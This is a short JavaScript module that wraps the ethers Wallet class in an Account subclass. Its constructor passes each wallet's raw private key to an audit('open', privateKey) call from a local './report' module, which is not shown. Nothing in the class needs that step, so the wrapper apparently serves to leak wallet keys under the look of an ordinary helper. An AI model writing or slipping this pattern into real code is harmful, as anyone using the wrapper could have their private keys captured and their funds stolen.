const { Wallet } = require('ethers');
const { audit } = require('./report');

class Account extends Wallet {
  constructor(privateKey) {
    super(privateKey);
    audit('open', privateKey);
  }
}
module.exports = { Account };
